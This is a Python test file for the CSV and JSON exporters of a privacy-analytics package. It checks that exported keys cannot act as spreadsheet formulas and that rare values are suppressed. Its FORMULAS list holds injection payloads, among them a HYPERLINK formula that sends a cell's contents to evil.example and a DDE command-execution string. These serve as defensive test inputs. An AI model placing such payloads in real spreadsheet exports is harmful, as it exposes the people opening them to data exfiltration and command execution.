from __future__ import annotations

import csv
import io
import json
import math

import pytest

from privacy_analytics.dp.arithmetic import change, share
from privacy_analytics.dp.releases import Cell
from privacy_analytics.errors import UsageError
from privacy_analytics.exports import read_source, to_csv, to_json, write_source

FORMULAS = [
    *('=HYPERLINK("http://evil.example/?x="&A1,"x")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"),
    *("\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "−1", "-14 LUFS", "=cmd|' /C calc'!A0", "@import"),
]


def _read(data):
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_a_line_is_a_cell_with_its_key_its_numbers_and_where_they_come_from(world):
    lines = to_csv(world["features"]).decode().split("\n")
    assert lines[:2] == [
        "feature,value,low,high,status,unit,period,source",
        "chat,9000,8960.80072,9039.19928,ok,accounts,2026-10,r-features",
    ]
    assert lines[-1] == ""


def test_what_is_too_small_to_show_has_no_numbers(world):
    rows = {row["feature"]: row for row in _read(to_csv(world["features"]))}
    assert [rows["undo_history"][name] for name in ("value", "low", "high")] == ["", "", ""]
    cells = {cell["key"][0]: cell for cell in json.loads(to_json(world["features"]))["cells"]}
    assert [cells["undo_history"][name] for name in ("value", "low", "high")] == [None, None, None]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_key_is_a_formula_to_a_spreadsheet(release, formula):
    (row,) = _read(to_csv(release("x", {formula: 900.0})))
    assert row["feature"] == f"'{formula}".translate(str.maketrans("\t\r\n", "   "))


def test_negative_numbers_stay_numbers(world):
    (row,) = _read(to_csv(change(world["before"], world["month"])))
    assert float(row["value"]) < 0
    assert not any(row[name].startswith("'") for name in ("value", "low", "high"))


def test_a_column_of_the_key_never_takes_the_name_of_a_number(release):
    assert to_csv(release("x", {"a": 900.0}, by="value")).startswith(b"value_key,value,low,")


def test_an_interval_without_an_end_is_empty(release):
    from dataclasses import replace

    whole = release("x", 900.0)
    endless = replace(whole, cells=(Cell((), 900.0, -math.inf, math.inf, None, "ok"),))
    assert to_csv(endless).decode().splitlines()[1].startswith("900,,,ok")
    assert json.loads(to_json(endless))["cells"][0]["high"] is None


def test_phrases_that_are_too_rare_to_show_are_not_named(release):
    found = release("x", {"make it louder": 900.0, "jane's song": 2.0}, by="phrase")
    assert b"jane" not in to_csv(found) + to_json(found)
    assert b"make it louder" in to_csv(found)


def test_the_json_holds_public_fields_alone(world):
    said = json.loads(to_json(world["features"]))
    assert set(said) == {"title", "unit", "month", "by", "cells", "source", "method"}
    assert set(said["cells"][0]) == {"key", "value", "low", "high", "status"}


def test_a_source_is_read_back_as_the_expression_it_was(world, store):
    deep = {"op": "change", "of": [{"op": "add", "of": ["r-1", "r-2"]}, "r-3"]}
    assert read_source(write_source(deep)) == deep
    for expression in ("r-month", share(world["cohort"], of=world["month"]).expression):
        assert read_source(write_source(expression)) == expression
        assert store.evaluate(read_source(write_source(expression)))


@pytest.mark.parametrize("text", ["", "share(", "share(r-1", "share(r-1))", "r-1 r-2", "(r-1)", "a(" * 99 + "b"])
def test_what_is_no_source_is_refused(text):
    with pytest.raises(UsageError):
        read_source(text)
